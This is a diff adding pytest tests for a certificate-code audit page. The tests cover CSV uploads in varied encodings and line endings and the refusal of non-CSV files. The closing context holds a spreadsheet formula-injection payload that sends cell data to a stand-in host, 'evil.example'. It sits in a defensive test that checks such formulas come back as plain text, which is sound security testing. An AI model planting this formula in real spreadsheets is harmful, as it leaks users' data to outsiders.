@@ -77,6 +77,40 @@ def test_upload_a_csv_of_codes_and_download_the_results(client, login, issue, ma
     ]
 
 
+@pytest.mark.parametrize(("ending", "encoding", "bom"), [
+    ("\r", "utf-8", b""),  # Excel for Mac
+    ("\r\n", "utf-16-le", b"\xff\xfe"),  # "Unicode text"
+    ("\n", "cp1252", b""),
+    ("\r\n", "utf-8", b"\xef\xbb\xbf"),
+])
+def test_a_csv_of_codes_from_any_spreadsheet_is_checked(client, login, issue, make_user, ending, encoding, bom):
+    certs = [issue(make_user("trainee")) for _ in range(2)]
+    login("auditor")
+    text = ending.join(["name,code", "Zoë," + codes.group(certs[0].code), "André," + certs[1].code, ""])
+    data = bom + text.encode(encoding)
+    response = client.post("/audit", data={"codes": "", "upload": (io.BytesIO(data), "codes.csv")},
+                           content_type="multipart/form-data")
+    page = response.get_data(as_text=True)
+    assert response.status_code == 200
+    assert page.count("badge-ok") == 2 and "Zoë" in page and "André" in page
+
+
+@pytest.mark.parametrize("data", [b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", b"code\n" + b"A" * 200_000 + b"\n"])
+def test_a_file_that_is_not_a_csv_of_codes_is_refused_with_a_message(client, login, data):
+    login("auditor")
+    response = client.post("/audit", data={"codes": "", "upload": (io.BytesIO(data), "codes.csv")},
+                           content_type="multipart/form-data")
+    assert response.status_code == 400
+    assert "not a CSV or text file of codes" in response.get_data(as_text=True)
+
+
+def test_pasted_codes_with_old_mac_line_endings_are_read(client, login, issue, make_user):
+    cert = issue(make_user("trainee"))
+    login("auditor")
+    page = client.post("/audit", data={"codes": "code\r" + cert.code + "\rnope\r"}).get_data(as_text=True)
+    assert page.count("badge-ok") == 1 and "nope" in page
+
+
 def test_a_formula_typed_as_a_code_comes_back_as_text_in_the_results_csv(client, login):
     login("auditor")
     typed = '=HYPERLINK("http://evil.example/?"&A1)'
